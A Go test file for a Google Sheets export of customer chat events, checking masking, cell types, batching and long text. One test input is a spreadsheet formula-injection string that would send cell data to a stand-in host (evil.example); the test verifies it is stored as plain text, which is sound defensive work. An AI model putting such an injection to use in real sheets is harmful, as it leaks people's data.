package sheets_test

import (
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"talkrelay"
	"talkrelay/sink"
	"talkrelay/sink/sheets"
)

var update = flag.Bool("update", false, "write the golden files anew")

// What the default sets look like, in each language.
func TestDefaultRows(t *testing.T) {
	t.Parallel()
	for _, lang := range sink.Languages() {
		for _, set := range []sheets.DefaultSet{sheets.Inquiries, sheets.Changes, sheets.Mixed, sheets.Events} {
			name := string(lang) + "-" + string(set)
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				g := newGoogle(t, "문의")
				c := g.config()
				c.Language, c.Defaults, c.Mask = lang, set, lang == sink.Japanese
				day := shop()
				if set == sheets.Events {
					day = append(day, sink.SampleEvents()[3:]...)
				}
				deliver(t, newSink(t, c), 1, items(day...))
				golden(t, name, strings.Join(g.rows("문의"), "\n")+"\n")
			})
		}
	}
}

// shop is a day in a small shop.
func shop() []talkrelay.Event {
	samples := sink.SampleEvents()
	again := opened(2)
	again.Chat.Reopened, again.Chat.OpenedAt = true, again.Chat.OpenedAt.Add(26*time.Hour)
	again.Assignee, again.Message, again.TimeZone = talkrelay.Person{}, talkrelay.Message{Files: 2}, "Asia/Tokyo"
	bare := talkrelay.Event{ID: "bare", Kind: talkrelay.UserChatOpened, At: samples[0].At}
	return append(samples[:3:3], again, bare)
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	file := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s (-want +got):\n%s", file, diff)
	}
}

// Whatever a customer writes stands in the sheet as that text, byte for byte.
func TestHostileText(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		`=IMPORTXML("https://evil.example/?"&B2,"//a")`, "+49 170 1234567", "-1+2", "@SUM(A1)", "007", "1-2", "'x", "TRUE", "1e5",
		"2026-11-22", "🧑‍🚀 emoji", "<!channel> & <b>", `back\slash "quotes"`, "a\nb", "=HYPERLINK(\"x\")", "￥100%",
	} {
		value, format := cellFor(t, text)
		if value == nil || *value != text {
			t.Errorf("%q is written as %v", text, value)
		}
		must(t, format, "TEXT", "format")
	}
}

func TestLongText(t *testing.T) {
	t.Parallel()
	for text, most := range map[string]int{strings.Repeat("abcdef", 10_000): 49_000, strings.Repeat("긴글자", 20_000): 5000} {
		value, _ := cellFor(t, text)
		if value == nil {
			t.Fatal("nothing is left")
		}
		if n := sink.LenUTF16(*value); n != most || !strings.HasSuffix(*value, "…") || !strings.HasPrefix(text, strings.TrimSuffix(*value, "…")) {
			t.Errorf("60,000 characters are written as %d", n)
		}
	}
}

// cellFor sends text as a customer's name through an own column and returns the cell.
func cellFor(t *testing.T, text string) (value *string, format string) {
	t.Helper()
	g := newGoogle(t, "문의")
	c := g.config()
	c.Columns = []sheets.Column{{Header: "본문", Value: "{{.Message.Text}}"}}
	s := newSink(t, c)
	e := opened(1)
	e.Message.Text = text
	m, _ := prepare(t, s, id(1), items(e), "")
	request, _, _ := sheets.Request(m.Body)
	for _, bad := range []string{"formulaValue", "boolValue", "numberValue"} {
		if strings.Contains(string(request), `"`+bad+`"`) {
			t.Errorf("%q makes a %s", text, bad)
		}
	}
	appended := wire(request)[0].AppendCells
	must(t, appended.Fields, "userEnteredValue,userEnteredFormat.numberFormat", "fields")
	one := appended.Rows[0].Values[0]
	return one.UserEnteredValue.StringValue, one.UserEnteredFormat.NumberFormat.Type
}

func TestOwnColumns(t *testing.T) {
	t.Parallel()
	tests := []struct{ typ, value, want string }{
		{"text", "{{.User.MobileNumber}}", "+821012345678"},
		{"", "", ""},
		{"number", "3.5", "#3.500000"},
		{"number", "1,234,567", "#1234567.000000"},
		{"number", "1234567890123456789", "1234567890123456789"}, // a sheet would round it
		{"number", "NaN", "NaN"},
		{"number", "=1+2", "=1+2"},
		{"datetime", "{{.At}}", "#46348.585417 yyyy-mm-dd hh:mm"},
		{"datetime", `{{.At.Format "2006-01-02T15:04:05Z07:00"}}`, "#46348.585417 yyyy-mm-dd hh:mm"},
		{"datetime", "2026-11-22T05:03:00Z", "#46348.585417 yyyy-mm-dd hh:mm"}, // shown in Seoul
		{"datetime", "next week", "next week"},
	}
	for _, tt := range tests {
		g := newGoogle(t, "문의")
		c := g.config()
		c.Columns = []sheets.Column{{Header: "x", Value: tt.value, Type: tt.typ}}
		deliver(t, newSink(t, c), 1, items(opened(1)))
		must(t, g.rows("문의")[1], tt.want, tt.typ+" "+tt.value)
	}
}

func TestMaskReachesOwnTemplates(t *testing.T) {
	t.Parallel()
	g := newGoogle(t, "문의")
	c := g.config()
	c.Mask = true
	c.Columns = []sheets.Column{{Header: "x", Value: "{{.User.MobileNumber}} {{.User.Email}} {{range .Changes}}{{.Old}}>{{.New}} {{end}}{{.User.Profile}}"}}
	events := sink.SampleEvents()
	for i := range events { // Channel Talk keeps both in the profile too
		events[i].User.Profile = map[string]string{"mobileNumber": "+821012345678", "email": "hong@example.com", "grade": "gold"}
	}
	deliver(t, newSink(t, c), 1, items(events...))
	for _, row := range g.rows("문의") {
		for _, secret := range []string{"12345678", "87654321", "hong@", "old@", "5551234"} {
			if strings.Contains(row, secret) {
				t.Errorf("%q shows %s", row, secret)
			}
		}
	}
	must(t, strings.Contains(g.rows("문의")[1], "grade: gold"), true, "the rest of the profile is shown")
	must(t, events[0].User.Profile["email"], "hong@example.com", "the event itself")
}

func TestSerial(t *testing.T) {
	t.Parallel()
	seoul, err := time.LoadLocation("Asia/Seoul")
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		at   time.Time
		want float64
	}{
		{time.Date(1899, 12, 31, 0, 0, 0, 0, time.UTC), 1},
		{time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC), 46348.5},
		{time.Date(2026, 11, 22, 12, 0, 0, 0, seoul), 46348.5}, // the wall clock counts
	} {
		must(t, sheets.Serial(tt.at), tt.want, tt.at.String())
	}
}

// 5,000 inquiries: each once, in order, in few writes, none larger than asked for.
func TestBurst(t *testing.T) {
	t.Parallel()
	g := newGoogle(t, "문의")
	deliver(t, newSink(t, g.config()), 1, many(0, 5000))
	got := g.chats("문의")
	if len(got) != 5000 || len(g.sent()) > 10 {
		t.Fatalf("%d rows in %d writes", len(got), len(g.sent()))
	}
	for i, chat := range got {
		if chat != opened(i).Chat.ID {
			t.Fatalf("row %d is %s", i, chat)
		}
	}
	for _, body := range g.sent() {
		if len(body) > sheets.DefaultBatchBytes+2000 {
			t.Errorf("a write has %d bytes", len(body))
		}
	}
}

// A row that is larger than a write may be goes alone; it is not held back.
func TestLargeRow(t *testing.T) {
	t.Parallel()
	g := newGoogle(t, "문의")
	c := g.config()
	c.BatchBytes = 10_000
	c.Columns = []sheets.Column{{Header: "상담ID", Value: "{{.Chat.ID}}"}, {Header: "본문", Value: "{{.Message.Text}}"}}
	big := opened(1)
	big.Message.Text = strings.Repeat("큰", 20_000)
	s := newSink(t, c)
	_, n := prepare(t, s, id(1), items(big, opened(2)), "")
	must(t, n, 1, "rows with the large one")
	deliver(t, s, 1, items(opened(0), big, opened(2)))
	must(t, g.chats("문의"), []string{"chat0000", "chat0001", "chat0002"}, "rows")
}
